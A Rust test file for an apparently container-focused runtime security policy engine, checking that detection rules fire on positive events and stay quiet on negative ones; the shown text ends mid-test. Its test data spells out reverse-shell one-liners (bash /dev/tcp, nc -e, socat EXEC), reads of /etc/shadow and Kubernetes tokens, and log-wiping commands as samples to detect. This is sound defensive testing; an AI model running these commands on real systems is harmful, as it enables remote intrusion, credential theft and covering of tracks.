use super::*;
use crate::attribution::{ContainerInfo, PodInfo};
use crate::event::{Event, EventKind, ExecEvent, FileEvent, FileOp, NetEvent, NetOp, ProcessRef, Protocol};
use std::sync::Arc;

// ---------- event builders ----------

fn event(kind: EventKind) -> Event {
    Event {
        time_ns: 1_795_873_138_000_000_000,
        cgroup_id: 42,
        process: ProcessRef { pid: 100, tid: 100, ppid: 1, uid: 0, gid: 0, comm: "x".into(), start_ns: 0, runtime: false },
        kind,
    }
}

fn exec(filename: &str, argv: &[&str]) -> Event {
    event(EventKind::Exec(ExecEvent {
        filename: filename.into(),
        cwd: "/".into(),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        parent_comm: "httpd".into(),
        parent_exe: Some("/usr/sbin/httpd".into()),
        ..Default::default()
    }))
}

fn file(op: FileOp, path: &str) -> Event {
    event(EventKind::File(FileEvent { op, path: path.into(), old_path: None, host_path: format!("/var/lib/x/diff{path}"), is_dir: false }))
}

fn rename(old: &str, new: &str) -> Event {
    event(EventKind::File(FileEvent {
        op: FileOp::Rename,
        path: new.into(),
        old_path: Some(old.into()),
        host_path: String::new(),
        is_dir: false,
    }))
}

fn net(op: NetOp, daddr: &str, dport: u16, sport: u16) -> Event {
    event(EventKind::Net(NetEvent {
        op,
        proto: Protocol::Tcp,
        saddr: "10.88.0.5".parse().unwrap(),
        sport,
        daddr: daddr.parse().unwrap(),
        dport,
        result: 0,
        netns: 1,
        totals: None,
    }))
}

fn connect(daddr: &str, dport: u16) -> Event {
    net(NetOp::Connect, daddr, dport, 40000)
}

fn container() -> ContainerInfo {
    ContainerInfo {
        id: "2e8bdd302d6f3109f54b92f320cfa00a76d6653727e89863aa6329a9cdbbea02".into(),
        name: "web-1".into(),
        image: "localhost/web:1.0".into(),
        image_digest: "sha256:0f36aa".into(),
        labels: [("app".to_string(), "web".to_string()), ("tier".to_string(), "front".to_string())].into(),
        pod: Some(PodInfo { name: "web-7d".into(), namespace: "shop".into(), uid: "u".into(), container_name: "nginx".into() }),
        ..Default::default()
    }
}

fn fired(set: &PolicySet, ev: &Event, c: Option<&ContainerInfo>, deviates: bool) -> Vec<String> {
    let mut out = Vec::new();
    set.evaluate(ev, c, deviates, &mut out);
    out.iter().map(|v| v.rule.to_string()).collect()
}

fn defaults() -> PolicySet {
    PolicySet::new(Vec::new(), true).expect("defaults compile")
}

// ---------- default rules ----------

struct Case {
    rule: &'static str,
    /// (event, deviates from profile)
    positive: Vec<(Event, bool)>,
    negative: Vec<(Event, bool)>,
}

fn cases() -> Vec<Case> {
    vec![
        Case {
            rule: "Shell in container not in profile",
            positive: vec![(exec("/bin/bash", &["bash"]), true), (exec("/bin/sh", &["sh", "-c", "id"]), true)],
            negative: vec![
                (exec("/bin/bash", &["bash"]), false),
                (exec("/usr/local/bin/app", &["app"]), true),
                (exec("/bin/bashful", &["x"]), true),
            ],
        },
        Case {
            rule: "Sensitive credential file read",
            positive: vec![(file(FileOp::Open, "/etc/shadow"), false), (file(FileOp::Open, "/root/.ssh/id_ed25519"), false)],
            negative: vec![(file(FileOp::Open, "/etc/passwd"), true), (file(FileOp::Modify, "/etc/shadow"), true)],
        },
        Case {
            rule: "Kubernetes credentials read not in profile",
            positive: vec![(file(FileOp::Open, "/var/run/secrets/kubernetes.io/serviceaccount/token"), true)],
            negative: vec![
                (file(FileOp::Open, "/var/run/secrets/kubernetes.io/serviceaccount/token"), false),
                (file(FileOp::Open, "/var/run/secrets/other/token"), true),
            ],
        },
        Case {
            rule: "Write below etc",
            positive: vec![(file(FileOp::Create, "/etc/cron.d/job"), false), (rename("/etc/passwd", "/tmp/p"), false)],
            negative: vec![(file(FileOp::Create, "/etcetera/x"), false), (file(FileOp::Open, "/etc/hosts"), true)],
        },
        Case {
            rule: "Write below binary directories",
            positive: vec![(file(FileOp::Modify, "/usr/bin/ls"), false), (file(FileOp::Create, "/lib64/libevil.so"), false)],
            negative: vec![(file(FileOp::Create, "/usr/share/doc/x"), false), (file(FileOp::Create, "/library/x"), false)],
        },
        Case {
            rule: "Package manager in container",
            positive: vec![
                (exec("/usr/bin/apt-get", &["apt-get", "install", "curl"]), false),
                (exec("/usr/local/bin/pip3.11", &["pip3.11", "install", "x"]), false),
            ],
            negative: vec![(exec("/usr/bin/apt-cache", &["apt-cache", "show"]), true), (exec("/usr/bin/pipx", &["pipx"]), true)],
        },
        Case {
            rule: "File made executable in writable directory",
            positive: vec![(file(FileOp::Chmod, "/tmp/xmrig"), false), (file(FileOp::Chmod, "/dev/shm/.x/p"), false)],
            negative: vec![(file(FileOp::Chmod, "/app/run.sh"), true), (file(FileOp::Create, "/tmp/xmrig"), true)],
        },
        Case {
            rule: "Outbound connection to mining pool port",
            positive: vec![(connect("203.0.113.5", 3333), false), (connect("203.0.113.5", 14444), false)],
            negative: vec![(connect("203.0.113.5", 443), true), (net(NetOp::Listen, "0.0.0.0", 0, 3333), true)],
        },
        Case {
            rule: "Cloud metadata service contacted not in profile",
            positive: vec![(connect("169.254.169.254", 80), true), (connect("fd00:ec2::254", 80), true)],
            negative: vec![(connect("169.254.169.254", 80), false), (connect("169.254.169.253", 80), true)],
        },
        Case {
            rule: "Netcat or socat run not in profile",
            positive: vec![(exec("/usr/bin/nc", &["nc", "-z", "db", "5432"]), true)],
            negative: vec![(exec("/usr/bin/nc", &["nc", "-z", "db", "5432"]), false), (exec("/usr/bin/ncdu", &["ncdu"]), true)],
        },
        Case {
            rule: "Netcat with command execution",
            positive: vec![
                (exec("/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]), false),
                (exec("/usr/bin/ncat", &["ncat", "--sh-exec", "bash", "10.0.0.1", "4444"]), false),
                (exec("/usr/bin/socat", &["socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash"]), false),
            ],
            negative: vec![(exec("/usr/bin/nc", &["nc", "-z", "db", "5432"]), true), (exec("/bin/sh", &["sh", "-c", "x -e y"]), true)],
        },
        Case {
            rule: "Reverse shell command line",
            positive: vec![
                (exec("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]), false),
                (exec("/usr/bin/python3", &["python3", "-c", "import pty;pty.spawn(\"/bin/sh\")"]), false),
            ],
            negative: vec![(exec("/bin/bash", &["bash", "-c", "echo hi > /tmp/tcp"]), true)],
        },
        Case {
            rule: "Interactive shell started with -i",
            positive: vec![(exec("/bin/sh", &["sh", "-i"]), false), (exec("/bin/bash", &["/bin/bash", "-i"]), false)],
            negative: vec![
                (exec("/bin/sh", &["sh", "-c", "ping -i 1 db"]), true),
                (exec("/bin/bash", &["bash", "run.sh"]), true),
                (exec("/usr/bin/ssh", &["ssh", "-i", "k", "h"]), true),
            ],
        },
        Case {
            rule: "Namespace or mount tool run",
            positive: vec![
                (exec("/usr/bin/nsenter", &["nsenter", "-t", "1", "-m", "sh"]), false),
                (exec("/bin/mount", &["mount", "/dev/sda1", "/mnt"]), false),
            ],
            negative: vec![(exec("/bin/mountpoint", &["mountpoint", "/"]), true)],
        },
        Case {
            rule: "Debugger or tracer run",
            positive: vec![(exec("/usr/bin/strace", &["strace", "-p", "1"]), false), (exec("/usr/bin/gdb", &["gdb", "-p", "1"]), false)],
            negative: vec![(exec("/usr/bin/gdbus", &["gdbus"]), true)],
        },
        Case {
            rule: "Log or shell history removed",
            positive: vec![
                (file(FileOp::Delete, "/var/log/nginx/access.log"), false),
                (file(FileOp::Delete, "/root/.bash_history"), false),
                (rename("/var/log/auth.log", "/tmp/a"), false),
            ],
            negative: vec![(file(FileOp::Modify, "/var/log/app.log"), true), (file(FileOp::Delete, "/tmp/x"), true)],
        },
        Case {
            rule: "Secure delete tool run",
            positive: vec![(exec("/usr/bin/shred", &["shred", "-u", "/tmp/x"]), false)],
            negative: vec![(exec("/bin/rm", &["rm", "/tmp/x"]), true)],
        },
        Case {
            rule: "Log or history cleared by command",
            positive: vec![
                (exec("/bin/bash", &["bash", "-c", "history -c"]), false),
                (exec("/bin/sh", &["sh", "-c", "cat /dev/null > /root/.bash_history"]), false),
                (exec("/usr/bin/truncate", &["truncate", "-s", "0", "/var/log/syslog"]), false),
            ],
            negative: vec![(exec("/bin/bash", &["bash", "-c", "history | tail"]), true)],
        },
    ]
}

#[test]
fn every_default_rule_has_a_positive_and_a_negative_case() {
    let rules = default_rules();
    let cases = cases();
    let mut names: Vec<&str> = rules.iter().map(|r| r.name.as_str()).collect();
    let mut covered: Vec<&str> = cases.iter().map(|c| c.rule).collect();
    names.sort_unstable();
    covered.sort_unstable();
    assert_eq!(names, covered, "the table must cover exactly the default rules");
    for c in &cases {
        assert!(!c.positive.is_empty() && !c.negative.is_empty(), "{}", c.rule);
    }
}

#[test]
fn default_rules_fire_on_positives_and_not_on_negatives() {
    let set = defaults();
    let c = container();
    for case in cases() {
        for (ev, dev) in &case.positive {
            let got = fired(&set, ev, Some(&c), *dev);
            assert!(got.iter().any(|r| r == case.rule), "{}: expected to fire on {:?} (deviates={dev}); fired {got:?}", case.rule, ev.kind);
        }
        for (ev, dev) in &case.negative {
            let got = fired(&set, ev, Some(&c), *dev);
            assert!(!got.iter().any(|r| r == case.rule), "{}: must not fire on {:?} (deviates={dev})", case.rule, ev.kind);
        }
    }
}

#[test]
fn default_rules_are_alert_only_tagged_with_mitre_and_skip_the_host() {
    let p = default_policy();
    assert_eq!(p.metadata.name, "lancet-defaults");
    assert!(p.spec.selector.is_empty());
    for r in &p.spec.rules {
        assert_eq!(r.action, Action::Alert, "{}", r.name);
        assert!(
            r.tags.iter().any(|t| t.starts_with('T') && t[1..].chars().next().is_some_and(|c| c.is_ascii_digit())),
            "{} has no MITRE id",
            r.name
        );
        assert!(!r.description.is_empty(), "{}", r.name);
    }
    // Host (and unattributed) events: no default rule applies.
    let set = defaults();
    assert!(fired(&set, &exec("/usr/bin/nsenter", &["nsenter"]), None, true).is_empty());
    assert!(fired(&set, &file(FileOp::Open, "/etc/shadow"), None, true).is_empty());
}

#[test]
fn verdict_carries_rule_policy_priority_tags_and_message() {
    let set = defaults();
    let c = Arc::new(container());
    let mut out = Vec::new();
    // `Some(&arc)` is what the daemon passes.
    set.evaluate(&file(FileOp::Open, "/etc/shadow"), Some(&c), false, &mut out);
    assert_eq!(out.len(), 1);
    let v = &out[0];
    assert_eq!(v.rule, "Sensitive credential file read");
    assert_eq!(v.policy, "lancet-defaults");
    assert_eq!(v.severity, Severity::High);
    assert_eq!(v.priority(), "Error");
    assert_eq!(v.action, Action::Alert);
    assert!(v.tags.iter().any(|t| t == "T1003.008"));
    assert_eq!(v.message, "A password, sudo or SSH key file was opened: /etc/shadow");
    let j = serde_json::to_value(v).unwrap();
    assert_eq!(j["tags"][0], "T1003.008");
    assert_eq!(j["rule"], "Sensitive credential file read");
    assert_eq!(j["action"], "alert");
}

#[test]
fn profile_deviation_verdict() {
    let d = crate::profile::Deviation::NewExecutable { path: "/tmp/x".into() };
    let v = Verdict::profile_deviation(&d);
    assert_eq!(v.rule, "profile deviation: new_executable");
    assert_eq!(v.policy, "profile");
    assert_eq!(v.action, Action::Block);
    assert_eq!(v.priority(), "Warning");
    assert_eq!(v.message, "executable /tmp/x is not in the profile");
}

// ---------- evaluation ----------

#[test]
fn non_matching_events_produce_no_verdicts_and_no_allocation() {
    let set = defaults();
    let c = container();
    let mut out: Vec<Verdict> = Vec::new();
    let events = [
        exec("/usr/local/bin/app", &["app", "--port", "8080"]),
        exec("/bin/sh", &["sh", "-c", "exec app"]), // a shell the profile knows
        file(FileOp::Modify, "/var/lib/app/data.db"),
        file(FileOp::Open, "/etc/hosts"),
        file(FileOp::Create, "/tmp/upload-1"),
        connect("10.88.0.7", 5432),
        net(NetOp::Listen, "0.0.0.0", 0, 8080),
        net(NetOp::Accept, "10.88.0.9", 51000, 8080),
        event(EventKind::Fork { child_pid: 7, child_start_ns: 0 }),
        event(EventKind::Exit(crate::event::ExitEvent { code: Some(0), signal: None })),
        event(EventKind::CgroupMkdir { id: 1, path: "/x".into() }),
    ];
    for ev in &events {
        set.evaluate(ev, Some(&c), false, &mut out);
        assert!(out.is_empty(), "{:?} fired {:?}", ev.kind, out);
    }
    assert_eq!(out.capacity(), 0, "nothing was pushed, so nothing was allocated");
}

#[test]
fn rules_only_visit_their_event_types() {
    let set = defaults();
    // Fork, exit and cgroup events have no default rule at all.
    assert!(set.by_type_len(EventType::Clone) == 0 && set.by_type_len(EventType::Procexit) == 0);
    assert!(set.by_type_len(EventType::Execve) > 5);
    assert_eq!(set.by_type_len(EventType::Listen), 0, "miner ports are for connect only");
}

#[test]
fn not_in_profile_needs_the_deviation_flag() {
    let text =
        policy_doc("p", "", "    - name: new exec\n      match: {notInProfile: true}\n      action: block\n      severity: medium\n");
    let set = PolicySet::new(parse_policies(&text, "t.yaml").unwrap(), false).unwrap();
    let c = container();
    assert_eq!(fired(&set, &exec("/bin/x", &["x"]), Some(&c), true), vec!["new exec"]);
    assert_eq!(fired(&set, &connect("1.1.1.1", 53), Some(&c), true), vec!["new exec"]);
    assert!(fired(&set, &exec("/bin/x", &["x"]), Some(&c), false).is_empty());
}

#[test]
fn match_conditions_and_together_and_lists_or() {
    let rules = "    - name: r
      match:
        exe: [\"*/curl\", \"*/wget\"]
        parent: [\"*/httpd\"]
        args: [\"*http://*\"]
      action: alert
      severity: low
    - name: ports
      match: {ports: [8080], cidrs: [\"10.0.0.0/8\", \"fd00::/8\", \"192.168.1.1\"]}
      action: alert
      severity: low
";
    let set = PolicySet::new(parse_policies(&policy_doc("p", "", rules), "t.yaml").unwrap(), false).unwrap();
    let c = container();
    assert_eq!(fired(&set, &exec("/usr/bin/wget", &["wget", "http://x/y"]), Some(&c), false), vec!["r"]);
    assert!(fired(&set, &exec("/usr/bin/wget", &["wget", "https://x/y"]), Some(&c), false).is_empty());
    let mut no_parent = exec("/usr/bin/curl", &["curl", "http://x"]);
    if let EventKind::Exec(x) = &mut no_parent.kind {
        x.parent_exe = None;
        x.parent_comm = "bash".into();
    }
    assert!(fired(&set, &no_parent, Some(&c), false).is_empty());
    assert_eq!(fired(&set, &connect("10.1.2.3", 8080), Some(&c), false), vec!["ports"]);
    assert_eq!(fired(&set, &connect("fd00::1", 8080), Some(&c), false), vec!["ports"]);
    assert_eq!(fired(&set, &connect("192.168.1.1", 8080), Some(&c), false), vec!["ports"]);
    assert!(fired(&set, &connect("192.168.1.2", 8080), Some(&c), false).is_empty());
    assert!(fired(&set, &connect("10.1.2.3", 8081), Some(&c), false).is_empty());
    // accept: the local port and the remote peer.
    assert_eq!(fired(&set, &net(NetOp::Accept, "10.9.9.9", 50000, 8080), Some(&c), false), vec!["ports"]);
}

// ---------- selectors ----------

fn policy_doc(name: &str, selector: &str, rules: &str) -> String {
    format!("apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata:\n  name: {name}\nspec:\n{selector}  rules:\n{rules}")
}

fn selector_set(selector: &str) -> PolicySet {
    let rules = "    - name: chmod\n      match: {fileOps: [chmod]}\n      action: alert\n      severity: low\n";
    let text = policy_doc("sel", &format!("  selector: {selector}\n"), rules);
    PolicySet::new(parse_policies(&text, "sel.yaml").unwrap(), false).unwrap()
}

fn selects(set: &PolicySet, c: Option<&ContainerInfo>) -> bool {
    !fired(set, &file(FileOp::Chmod, "/x"), c, false).is_empty()
}

#[test]
fn selector_image_glob() {
    let set = selector_set("{images: [\"localhost/web*\"]}");
    let mut c = container();
    assert!(selects(&set, Some(&c)));
    c.image = "localhost/db:1".into();
    assert!(!selects(&set, Some(&c)));
    let by_digest = selector_set("{images: [\"sha256:0f36*\"]}");
    assert!(selects(&by_digest, Some(&c)));
}

#[test]
fn selector_name_glob() {
    let set = selector_set("{names: [\"web-*\"]}");
    let mut c = container();
    assert!(selects(&set, Some(&c)));
    c.name = "db-1".into();
    assert!(!selects(&set, Some(&c)));
    // The pod spec's container name counts too.
    let by_pod_name = selector_set("{names: [nginx]}");
    assert!(selects(&by_pod_name, Some(&c)));
}

#[test]
fn selector_labels() {
    let set = selector_set("{labels: {app: web, tier: \"fr*\"}}");
    let mut c = container();
    assert!(selects(&set, Some(&c)));
    c.labels.insert("tier".into(), "back".into());
    assert!(!selects(&set, Some(&c)));
    c.labels.remove("tier");
    assert!(!selects(&set, Some(&c)), "a missing label does not match");
}

#[test]
fn selector_namespace_from_pod() {
    let set = selector_set("{namespaces: [shop, \"team-*\"]}");
    let mut c = container();
    assert!(selects(&set, Some(&c)));
    c.pod.as_mut().unwrap().namespace = "team-a".into();
    assert!(selects(&set, Some(&c)));
    c.pod.as_mut().unwrap().namespace = "kube-system".into();
    assert!(!selects(&set, Some(&c)));
    c.pod = None;
    assert!(!selects(&set, Some(&c)), "outside Kubernetes there is no namespace");
}

#[test]
fn selector_fields_and_together_and_host_is_opt_in() {
    let set = selector_set("{images: [\"localhost/web*\"], namespaces: [prod]}");
    assert!(!selects(&set, Some(&container())));
    let empty = selector_set("{}");
    assert!(selects(&empty, Some(&container())));
    assert!(!selects(&empty, None), "host events are skipped by default");
    let host = selector_set("{host: true}");
    assert!(selects(&host, None));
    assert!(selects(&host, Some(&container())));
}

// ---------- parse errors ----------

fn errors(text: &str) -> Vec<String> {
    match parse_policies(text, "p.yaml") {
        Ok(p) => panic!("expected errors, parsed {p:?}"),
        Err(e) => e.iter().map(|e| e.to_string()).collect(),
    }
}

const HEAD: &str = "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata:\n  name: p\nspec:\n  rules:\n";

#[test]
fn yaml_syntax_error_has_position() {
    let text = format!("{HEAD}    - name: r\n      match: {{exe: [\"/bin/sh\"}}\n      action: alert\n      severity: low\n");
    let e = errors(&text);
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(e[0].starts_with("p.yaml:8:"), "{e:?}");
    assert!(e[0].contains("did not find expected ',' or ']'"), "{e:?}");
}

#[test]
fn unknown_field_is_an_error_at_the_key() {
    let text = format!("{HEAD}    - name: r\n      match: {{events: [execve], exes: [x]}}\n      action: alert\n      severity: low\n");
    assert_eq!(
        errors(&text),
        vec!["p.yaml:8:33: spec.rules[0].match: unknown field `exes`, expected one of `events`, `exe`, `args`, `paths`, `ports`, `cidrs`, `parent`, `fileOps`, `notInProfile`"]
    );
    let text = "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata: {name: p, owner: me}\nspec: {rules: []}\n";
    assert!(errors(text)[0].starts_with("p.yaml:3:21: metadata: unknown field `owner`"), "{:?}", errors(text));
}

#[test]
fn bad_action_and_unknown_event_type_are_errors_at_the_value() {
    let text = format!("{HEAD}    - name: r\n      match: {{events: [execve]}}\n      action: nuke\n      severity: low\n");
    assert_eq!(
        errors(&text),
        vec!["p.yaml:9:15: spec.rules[0].action: unknown variant `nuke`, expected one of `audit`, `alert`, `block`, `kill-process`, `isolate`, `freeze`"]
    );
    let text = format!("{HEAD}    - name: r\n      match: {{events: [exec]}}\n      action: alert\n      severity: low\n");
    let e = errors(&text);
    assert!(e[0].starts_with("p.yaml:8:24: spec.rules[0].match.events[0]: unknown variant `exec`"), "{e:?}");
}

#[test]
fn bad_glob_is_an_error_at_the_glob() {
    let text =
        format!("{HEAD}    - name: r\n      match:\n        exe:\n          - /bin/sh\n          - \"/bin/[a\"\n      action: alert\n      severity: low\n");
    assert_eq!(
        errors(&text),
        vec!["p.yaml:11:13: spec.rules[0].match.exe[1]: invalid glob \"/bin/[a\": unclosed character class; missing ']'"]
    );
    // In a selector, and in flow style.
    let text = "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata: {name: p}\nspec:\n  selector: {images: [ok, \"web{a,b\"]}\n  rules:\n    - {name: r, match: {fileOps: [open]}, action: alert, severity: low}\n";
    assert_eq!(
        errors(text),
        vec!["p.yaml:5:27: spec.selector.images[1]: invalid glob \"web{a,b\": unclosed alternate group; missing '}' (maybe escape '{' with '[{]'?)"]
    );
}

#[test]
fn bad_cidr_is_an_error_at_the_cidr() {
    let text =
        format!("{HEAD}    - name: r\n      match: {{cidrs: [10.0.0.0/8, 10.0.0.0/33]}}\n      action: alert\n      severity: low\n");
    assert_eq!(
        errors(&text),
        vec!["p.yaml:8:35: spec.rules[0].match.cidrs[1]: invalid CIDR \"10.0.0.0/33\" (expected e.g. 10.0.0.0/8, fd00::/8 or an address)"]
    );
}

#[test]
fn duplicate_and_empty_rule_names_are_errors_at_the_name() {
    let rule = |name: &str| format!("    - name: {name}\n      match: {{events: [execve]}}\n      action: alert\n      severity: low\n");
    let text = format!("{HEAD}{}{}{}", rule("a"), rule("b"), rule("a"));
    assert_eq!(errors(&text), vec!["p.yaml:15:13: spec.rules[2].name: duplicate rule name \"a\" (first used by spec.rules[0])"]);
    let text = format!("{HEAD}{}", rule("\"\""));
    assert_eq!(errors(&text), vec!["p.yaml:7:13: spec.rules[0].name: rule name is empty"]);
}

#[test]
fn impossible_and_empty_matches_are_errors() {
    let text = format!("{HEAD}    - name: r\n      match: {{events: [connect], exe: [\"*/nc\"]}}\n      action: alert\n      severity: low\n    - name: s\n      match: {{}}\n      action: alert\n      severity: low\n");
    assert_eq!(
        errors(&text),
        vec![
            "p.yaml:8:14: spec.rules[0].match: no event can satisfy these conditions together: events, exe/args/parent (execve only)",
            "p.yaml:12:14: spec.rules[1].match: match has no conditions (it would match every event)",
        ]
    );
}

#[test]
fn all_errors_of_all_documents_are_reported_in_order() {
    let text = "\
apiVersion: lancet.dev/v1alpha1
kind: Policy
metadata: {name: one}
spec:
  rules:
    - name: r
      match: {paths: [\"/etc/[x\"], cidrs: [nope]}
      action: alert
      severity: low
---
apiVersion: lancet.dev/v1alpha1
kind: Policy
metadata: {name: two}
spec:
  rules:
    - name: r
      match: {events: [execve]}
      action: explode
      severity: low
---
apiVersion: lancet.dev/v1alpha1
kind: Policy
metadata: {name: one}
spec:
  rules:
    - name: ok
      match: {events: [execve]}
      action: alert
      severity: low
---
kind: Policy
metadata: [unclosed
";
    assert_eq!(
        errors(text),
        vec![
            // Document 1: three problems, all reported.
            "p.yaml:7:14: spec.rules[0].match: no event can satisfy these conditions together: paths (file events only), cidrs (connect/accept only)",
            "p.yaml:7:23: spec.rules[0].match.paths[0]: invalid glob \"/etc/[x\": unclosed character class; missing ']'",
            "p.yaml:7:43: spec.rules[0].match.cidrs[0]: invalid CIDR \"nope\" (expected e.g. 10.0.0.0/8, fd00::/8 or an address)",
            // Document 2: a structural error.
            "p.yaml:18:15: spec.rules[0].action: unknown variant `explode`, expected one of `audit`, `alert`, `block`, `kill-process`, `isolate`, `freeze`",
            // Document 3: valid on its own, but its name is taken.
            "p.yaml:23:18: metadata.name: duplicate policy name \"one\" (first defined at 3:18)",
            // Document 4: YAML syntax (libyaml reports where it gave up, at the end of input).
            "p.yaml:33:1: did not find expected ',' or ']', while parsing a flow sequence at line 32 column 11",
        ]
    );
}

#[test]
fn valid_files_parse_with_empty_documents_and_comments() {
    let text = format!("# policies\n---\n{HEAD}    - name: r\n      match: {{events: [execve], exe: [\"*/sh\"]}}\n      action: kill-process\n      severity: critical\n      tags: [T1059]\n---\n");
    let p = parse_policies(&text, "ok.yaml").unwrap();
    assert_eq!(p.len(), 1);
    assert_eq!(p[0].spec.rules[0].action, Action::KillProcess);
    assert!(parse_policies("", "empty.yaml").unwrap().is_empty());
}

#[test]
fn default_rules_file_round_trips_and_schema_describes_policies() {
    let p = default_policy();
    let yaml = serde_norway::to_string(&p).unwrap();
    assert_eq!(parse_policies(&yaml, "rt.yaml").unwrap(), vec![p]);
    let s = policy_schema();
    assert!(s["properties"]["spec"].is_object(), "{s}");
    let text = s.to_string();
    assert!(text.contains("kill-process") && text.contains("notInProfile") && text.contains("cgroup_mkdir"));
}

#[test]
fn policy_set_rejects_duplicate_and_invalid_policies() {
    let text =
        policy_doc("lancet-defaults", "", "    - name: r\n      match: {events: [execve]}\n      action: alert\n      severity: low\n");
    let p = parse_policies(&text, "t.yaml").unwrap();
    assert!(PolicySet::new(p.clone(), false).is_ok());
    let err = PolicySet::new(p.clone(), true).unwrap_err();
    assert_eq!(err.to_string(), "policy \"lancet-defaults\" is defined more than once");
    let mut bad = p[0].clone();
    bad.metadata.name = "code".into();
    bad.spec.rules[0].matches.exe = vec!["[".into()];
    let err = PolicySet::new(vec![bad], false).unwrap_err();
    assert!(err.to_string().starts_with("policy \"code\": spec.rules[0].match.exe[0]: invalid glob"), "{err}");
}

// ---------- modes ----------

#[test]
fn effective_action_table() {
    use Action::*;
    use Mode::*;
    let table = [
        (Audit, Learn, Audit, false),
        (Audit, Monitor, Audit, false),
        (Audit, Protect, Audit, false),
        (Alert, Learn, Alert, false),
        (Alert, Monitor, Alert, false),
        (Alert, Protect, Alert, false),
        (Block, Learn, Alert, true),
        (Block, Monitor, Alert, true),
        (Block, Protect, Block, false),
        (KillProcess, Learn, Alert, true),
        (KillProcess, Monitor, Alert, true),
        (KillProcess, Protect, KillProcess, false),
        (Isolate, Learn, Alert, true),
        (Isolate, Monitor, Alert, true),
        (Isolate, Protect, Isolate, false),
        (Freeze, Learn, Alert, true),
        (Freeze, Monitor, Alert, true),
        (Freeze, Protect, Freeze, false),
    ];
    for (action, mode, taken, would_block) in table {
        assert_eq!(effective_action(action, mode), (taken, would_block), "{action} in {mode}");
    }
    assert_eq!(Action::KillProcess.to_string(), "kill-process");
    assert_eq!(
        [Severity::Low, Severity::Medium, Severity::High, Severity::Critical].map(Severity::priority),
        ["Notice", "Warning", "Error", "Critical"]
    );
}

// ---------- speed ----------

/// `cargo test -p lancet-engine --release policy::tests::throughput -- --ignored --nocapture`
#[test]
#[ignore = "timing; run in release"]
fn throughput_of_non_matching_events() {
    let set = defaults();
    let c = container();
    let events = [
        exec("/usr/local/bin/app", &["app", "--port", "8080"]),
        file(FileOp::Modify, "/var/lib/app/data.db"),
        file(FileOp::Create, "/srv/uploads/a.png"),
        connect("10.88.0.7", 5432),
        net(NetOp::Accept, "10.88.0.9", 51000, 8080),
        event(EventKind::Fork { child_pid: 7, child_start_ns: 0 }),
    ];
    let mut out = Vec::new();
    let n = 2_000_000;
    let t = std::time::Instant::now();
    for i in 0..n {
        set.evaluate(&events[i % events.len()], Some(&c), false, &mut out);
    }
    let per_sec = n as f64 / t.elapsed().as_secs_f64();
    println!("{per_sec:.0} non-matching events/s");
    assert!(out.is_empty());
    assert!(per_sec > 1_000_000.0, "{per_sec:.0}/s");
}

/// The daemon and `lancet policy test` use verdicts this way.
#[test]
fn verdicts_plug_into_falco_output() {
    use crate::attribution::Attribution;
    use crate::output::{falco_json, Record};
    let set = defaults();
    let c = Arc::new(container());
    let ev = connect("203.0.113.5", 4444);
    let mut out = Vec::new();
    set.evaluate(&ev, Some(&c), false, &mut out);
    let v = &out[0];
    let (action, would_block) = effective_action(v.action, Mode::Monitor);
    let attribution = Attribution::Container(Arc::clone(&c));
    let mut j = falco_json(&Record { event: &ev, attribution: &attribution, hostname: "h" }, &v.rule, v.priority());
    j["tags"] = serde_json::json!(v.tags);
    j["lancet.policy"] = serde_json::json!(v.policy);
    assert_eq!(j["rule"], "Outbound connection to mining pool port");
    assert_eq!(j["priority"], "Error");
    assert_eq!(j["tags"][0], "T1496");
    assert_eq!(j["lancet.policy"], "lancet-defaults");
    assert_eq!((action.to_string(), would_block), ("alert".to_string(), false));
}

// ---------- profile deviations next to rules ----------

/// The verdicts the daemon would act on for `ev`: the rules', then the
/// deviation's when due.
fn with_dev(set: &PolicySet, ev: &Event, d: Option<&crate::profile::Deviation>, mode: Mode) -> Vec<(String, Action)> {
    let mut out = Vec::new();
    set.evaluate(ev, Some(&container()), d.is_some(), &mut out);
    with_deviation(&mut out, d, mode);
    out.iter().map(|v| (v.rule.to_string(), v.action)).collect()
}

#[test]
fn an_alert_rule_never_removes_the_block_of_a_deviation_in_protect() {
    let set = defaults();
    let shell = exec("/bin/sh", &["sh"]);
    let d = crate::profile::Deviation::NewExecutable { path: "/bin/sh".into() };
    let rule = ("Shell in container not in profile".to_string(), Action::Alert);
    let block = ("profile deviation: new_executable".to_string(), Action::Block);
    assert_eq!(with_dev(&set, &shell, Some(&d), Mode::Protect), [rule.clone(), block]);
    // Monitor (and learn) keep one alert per event: the rule's.
    for mode in [Mode::Monitor, Mode::Learn] {
        assert_eq!(with_dev(&set, &shell, Some(&d), mode), std::slice::from_ref(&rule), "{mode}");
    }
    // No rule: the deviation in every mode.
    let app = exec("/usr/local/bin/app", &["app"]);
    let d = crate::profile::Deviation::NewExecutable { path: "/usr/local/bin/app".into() };
    for mode in [Mode::Learn, Mode::Monitor, Mode::Protect] {
        assert_eq!(with_dev(&set, &app, Some(&d), mode), [("profile deviation: new_executable".to_string(), Action::Block)], "{mode}");
    }
    // No deviation: the rules alone.
    assert!(with_dev(&set, &app, None, Mode::Protect).is_empty());
    assert_eq!(with_dev(&set, &shell, None, Mode::Protect).len(), 0, "the shell rule needs a deviation");
}

#[test]
fn an_enforcing_rule_makes_the_deviation_block_redundant() {
    let yaml = "apiVersion: lancet.dev/v1alpha1
kind: Policy
metadata: {name: strict}
spec:
  rules:
    - name: no shells
      match: {events: [execve], exe: ['*/sh']}
      action: kill-process
      severity: high
";
    let set = PolicySet::new(parse_policies(yaml, "p.yaml").expect("parses"), true).expect("compiles");
    let shell = exec("/bin/sh", &["sh"]);
    let d = crate::profile::Deviation::NewExecutable { path: "/bin/sh".into() };
    let got = with_dev(&set, &shell, Some(&d), Mode::Protect);
    assert_eq!(
        got,
        [("Shell in container not in profile".to_string(), Action::Alert), ("no shells".to_string(), Action::KillProcess)],
        "a kill is stronger than the block"
    );
}

#[test]
fn deep_flow_nesting_is_refused_before_the_parser_pays_for_it() {
    // 64 KiB of `{a: ` cost libyaml ~2 s (quadratic); refused at once, located.
